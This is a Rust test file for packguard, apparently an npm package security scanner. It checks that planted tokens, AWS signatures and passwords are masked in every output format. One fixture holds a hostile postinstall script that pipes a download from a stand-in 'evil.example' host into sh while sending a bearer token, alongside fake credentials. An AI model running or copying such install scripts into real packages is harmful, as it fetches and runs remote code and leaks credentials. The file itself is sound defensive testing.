//! Nothing packguard writes shows a secret it found: every format, every output (stdout,
//! `--output` files, the job summary, stderr), every rule family that echoes package text,
//! with and without a previous release to compare with (issue 18).

mod support;

use proptest::prelude::*;
use support::*;

/// A custom rule that echoes package.json lines as they are (`redact: false`), the way a
/// user's own rule might.
const ECHO_RULE: &str = r#"rules:
  - id: custom/registry-line
    category: custom
    severity: warning
    message: registry named in package.json
    paths: ["package.json"]
    keywords: ["registry"]
    pattern: '"registry":"[^"]*"'
    redact: false
    examples:
      fail:
        - {path: package.json, content: '{"publishConfig":{"registry":"https://npm.example.org/"}}'}
      pass:
        - {path: package.json, content: '{"name":"a"}'}
"#;

/// Values planted in the package; none may appear in any output.
struct Planted {
    /// A `ghp_` token (its checksum rarely holds: an info finding, still a secret).
    token: String,
    /// A second token, silenced with `packguard-ignore`.
    ignored: String,
    /// A presigned URL's session token and signature.
    aws_token: String,
    aws_sig: String,
}

impl Planted {
    fn forbidden(&self) -> Vec<&str> {
        // Any 12 characters past the `ghp_` prefix is too much of a token.
        vec![
            &self.token[4..16],
            &self.token[self.token.len() - 12..],
            &self.ignored[4..16],
            &self.aws_token[..12],
            &self.aws_sig,
        ]
    }
}

/// A package that echoes the tokens in every field a rule reports.
fn leaky(p: &Planted) -> Vec<u8> {
    let t = &p.token;
    let manifest = format!(
        r#"{{"name":"leaky","version":"1.0.0","main":"dist/{t}.js",
"repository":{{"type":"git","url":"git+https://{t}:x-oauth-basic@github.com/acme/other.git"}},
"publishConfig":{{"registry":"https://npm.evil.example/{t}/"}},
"scripts":{{"postinstall":"curl -H 'Authorization: Bearer {t}' https://get.evil.example/i.sh | sh","prepare":"node build.js --token {t}"}}}}
"#
    );
    let map = format!(
        r#"{{"version":3,"file":"cli.js","sourceRoot":"https://ci:{t}@git.internal.example/src/","sources":["https://acme-builds.s3.amazonaws.com/a.ts?X-Amz-Security-Token={}&X-Amz-Signature={}","b.ts"],"mappings":"AAAA"}}"#,
        p.aws_token, p.aws_sig
    );
    TarBuilder::new()
        .file("package.json", manifest)
        .file(
            "dist/cli.js",
            "console.log(1);\n//# sourceMappingURL=cli.js.map\n",
        )
        .file("dist/cli.js.map", map)
        .file(
            "lib/keys.js",
            format!(
                "const quiet = '{}'; // packguard-ignore\nconst loud = '{t}';\n",
                p.ignored
            ),
        )
        .tgz()
}

/// Every output of one run: stdout, stderr, and the files it wrote.
fn outputs(s: &Scratch, args: &[&str]) -> (Option<i32>, String) {
    let summary = s.path().join("summary.md");
    let _ = std::fs::remove_file(&summary);
    let out = s
        .cmd()
        .args(args)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .output()
        .expect("run packguard");
    let mut all = String::from_utf8_lossy(&out.stdout).into_owned();
    all.push_str(&String::from_utf8_lossy(&out.stderr));
    all.push_str(&std::fs::read_to_string(&summary).unwrap_or_default());
    for f in ["out.json", "out.sarif"] {
        all.push_str(&std::fs::read_to_string(s.path().join(f)).unwrap_or_default());
        let _ = std::fs::remove_file(s.path().join(f));
    }
    (out.status.code(), all)
}

fn assert_clean(p: &Planted, what: &str, text: &str) {
    for bad in p.forbidden() {
        if let Some(at) = text.find(bad) {
            let line = text[..at].rsplit('\n').next().unwrap_or_default();
            let rest = text[at..].split('\n').next().unwrap_or_default();
            panic!("{what}: `{bad}` is printed: {line}{rest}");
        }
    }
}

fn check_every_output(p: &Planted) {
    let s = Scratch::new();
    s.write("pkg.tgz", leaky(p));
    s.write("old.tgz", package("leaky", "0.9.0").tgz());
    s.write("rules.yml", ECHO_RULE);
    let base = [
        "--rules",
        "rules.yml",
        "--expect-repo",
        "acme/widget",
        "--fail-on",
        "never",
    ];
    // The fixture does what it should: each family that echoes text reports.
    let (_, json) = s.run_json(&[&["scan", "pkg.tgz", "--format", "json"][..], &base[..]].concat());
    let rules: Vec<String> = findings(&json).into_iter().map(|(r, _, _)| r).collect();
    for expected in [
        "secret/github-pat",
        "manifest/repository-mismatch",
        "manifest/publish-registry",
        "manifest/install-script-download",
        "manifest/prepare-script",
        "manifest/missing-entry-point",
        "sourcemap/external-url",
        "sourcemap/bucket-url",
        "custom/registry-line",
    ] {
        assert!(
            rules.iter().any(|r| r == expected),
            "{expected} not reported: {rules:?}"
        );
    }
    for format in [
        "human", "json", "jsonl", "sarif", "github", "gitlab", "junit",
    ] {
        for previous in [false, true] {
            let mut args = vec!["scan", "pkg.tgz", "--format", format];
            if previous {
                args.extend(["--previous", "old.tgz"]);
            }
            args.extend(base);
            args.extend(["--output", "out.json", "--output", "sarif:out.sarif"]);
            let (code, text) = outputs(&s, &args);
            assert_eq!(code, Some(0), "{format}: {text}");
            assert_clean(p, &format!("{format} previous={previous}"), &text);
        }
    }
    // The diff command and GitHub Actions' own log (annotations after the human report).
    let (_, text) = outputs(
        &s,
        &[&["diff", "old.tgz", "pkg.tgz"][..], &base[..]].concat(),
    );
    assert_clean(p, "diff", &text);
    let out = s
        .cmd()
        .args([&["scan", "pkg.tgz"][..], &base[..]].concat())
        .env("GITHUB_ACTIONS", "true")
        .output()
        .unwrap();
    assert_clean(p, "actions log", &String::from_utf8_lossy(&out.stdout));
}

fn token() -> impl Strategy<Value = String> {
    "[A-Za-z0-9]{36}".prop_map(|body| format!("ghp_{body}"))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3, ..ProptestConfig::default() })]

    /// Whatever the tokens, no output of any format shows one.
    #[test]
    fn no_output_shows_a_planted_secret(
        token in token(),
        ignored in token(),
        aws_token in "FQoGZXIvYXdz[A-Za-z0-9]{40}",
        aws_sig in "[0-9a-f]{64}",
    ) {
        check_every_output(&Planted { token, ignored, aws_token, aws_sig });
    }
}

/// `https://TOKEN:x-oauth-basic@github.com/`: the user part is the credential.
#[test]
fn url_password_masks_a_token_in_the_user_part() {
    let token = "ghp_R8kq2Lm9Vx4Tz7Nw1Bc5Hd0Jf3Gs6Pa2Ye8U";
    let s = Scratch::new();
    let tgz = package("a", "1.0.0")
        .file(
            "scripts/push.sh",
            format!("git push https://{token}:x-oauth-basic@github.com/acme/a.git\n"),
        )
        .tgz();
    s.write("pkg.tgz", tgz);
    for format in ["human", "json", "sarif", "github", "gitlab", "junit"] {
        let (_, text) = outputs(&s, &["scan", "pkg.tgz", "--format", format]);
        assert!(text.contains("url-password"), "{text}");
        assert!(!text.contains(&token[4..16]), "{format}:\n{text}");
    }
}

/// A passphrase is one secret, not its first word.
#[test]
fn a_passphrase_keeps_no_word_visible() {
    let s = Scratch::new();
    let tgz = package("a", "1.0.0")
        .file(".env", "DB_PASSWORD=\"correct horse battery staple\"\n")
        .tgz();
    s.write("pkg.tgz", tgz);
    for format in ["human", "json"] {
        let (_, text) = outputs(&s, &["scan", "pkg.tgz", "--format", format]);
        assert!(text.contains("dotenv-value"), "{text}");
        for word in ["horse", "battery", "staple"] {
            assert!(!text.contains(word), "{format}:\n{text}");
        }
    }
}

/// `--show-secrets` is the one way to see them (local use).
#[test]
fn show_secrets_still_shows_them() {
    let s = Scratch::new();
    let token = "ghp_R8kq2Lm9Vx4Tz7Nw1Bc5Hd0Jf3Gs6Pa2Ye8U";
    s.write(
        "pkg.tgz",
        package("a", "1.0.0")
            .file("a.js", format!("const t = '{token}';\n"))
            .tgz(),
    );
    let (_, text) = outputs(&s, &["scan", "pkg.tgz", "--show-secrets"]);
    assert!(text.contains(token), "{text}");
}

/// `ls` prints file names and the package's name: a token the scan matched (here in a
/// script) is masked there too, in both listing formats.
#[test]
fn ls_masks_a_token_named_by_a_file_or_the_package() {
    let token = "ghp_Kch6BTowCfFuzdsZOjbnv01Cg8YZGKIdo8Gv";
    let s = Scratch::new();
    let tgz = TarBuilder::new()
        .file(
            "package.json",
            format!(r#"{{"name":"x{token}","version":"1.0.0"}}"#),
        )
        .file(&format!("{token}.txt"), "x")
        .file("a.js", format!("const t = '{token}';\n"))
        .tgz();
    s.write("pkg.tgz", tgz);
    for format in ["human", "json"] {
        let out = s
            .cmd()
            .args(["ls", "pkg.tgz", "--format", format])
            .output()
            .expect("runs");
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(0), "{format}:\n{text}");
        assert!(
            text.contains(".txt"),
            "{format}: the file is listed:\n{text}"
        );
        assert!(!text.contains(&token[4..]), "{format}:\n{text}");
    }
}
